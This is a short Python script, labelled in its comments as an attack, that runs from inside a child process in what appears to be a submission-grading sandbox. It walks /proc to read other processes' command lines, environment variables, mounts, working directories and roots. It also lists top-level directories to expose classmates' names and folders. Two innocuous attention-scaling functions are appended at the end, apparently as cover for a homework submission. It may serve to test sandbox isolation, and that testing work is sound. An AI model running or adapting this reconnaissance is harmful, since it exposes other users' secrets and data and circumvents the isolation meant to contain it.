# Attack (recon): from inside the child, collect what /proc and the environment give away (the class
# folder, classmates' names, the batch's folders) and try the other processes' environments, cwd,
# root and files.  A compact summary is printed (the report keeps 2000 characters of output).
import math, os
out = [f"cwd={os.getcwd()}", f"env-keys={sorted(os.environ)}", f"LUMEN_PARENT_PID={os.environ.get('LUMEN_PARENT_PID')}"]
pids = sorted(int(p) for p in os.listdir('/proc') if p.isdigit())
out.append(f"pids={pids}")
for pid in pids:
    row = []
    for name in ("cmdline", "environ", "mountinfo"):
        try:
            data = open(f"/proc/{pid}/{name}", "rb").read()
            row.append(f"{name}:{len(data)}B")
            if name == "cmdline":
                row.append(data.replace(b"\0", b" ")[:160].decode(errors="replace"))
        except OSError as e:
            row.append(f"{name}:E{e.errno}")
    for link in ("cwd", "root", "fd/0"):
        try:
            row.append(f"{link}->{os.readlink(f'/proc/{pid}/{link}')}")
        except OSError as e:
            row.append(f"{link}:E{e.errno}")
    out.append(f"/proc/{pid}: " + " ".join(row))
try:
    text = open("/proc/1/mountinfo").read()
    out.append(f"host-mounts-visible={text.count(chr(10))} e.g. {[l.split()[4] for l in text.splitlines()][:12]}")
except OSError as e:
    out.append(f"host-mounts E{e.errno}")
for top in ("/", "/tmp", os.path.dirname(os.getcwd())):
    try:
        out.append(f"ls {top}: {sorted(os.listdir(top))[:20]}")
    except OSError as e:
        out.append(f"ls {top}: E{e.errno}")
print("\n".join(out))
def scale_scores(scores, d_k):
    return scores / math.sqrt(d_k)
def scaled_scores(q, k):
    return scale_scores(q @ k.transpose(-2, -1), q.size(-1))
